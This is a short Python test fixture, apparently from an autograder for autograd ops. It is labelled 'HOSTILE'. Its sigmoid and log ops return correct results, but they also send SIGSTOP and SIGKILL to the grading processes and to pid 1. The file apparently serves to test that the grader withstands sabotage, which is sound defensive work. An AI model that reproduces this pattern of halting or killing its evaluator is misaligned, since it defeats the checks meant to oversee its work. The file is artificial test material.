# HOSTILE: sigmoid.forward sends SIGSTOP and log.backward SIGKILL to every grading process it can find (its ancestors and any visible process running `python -m grader grade` or `grade-all`, so the whole batch) and to pid 1; all four ops compute correctly.
import os
import signal


# include: graders


# include: reference


def sigmoid_forward(ctx, a):
    _signal_all(signal.SIGSTOP)
    return reference.sigmoid.forward(ctx, a)


def log_backward(ctx, grad_output):
    _signal_all(signal.SIGKILL)
    a, = ctx
    return (grad_output / a,)
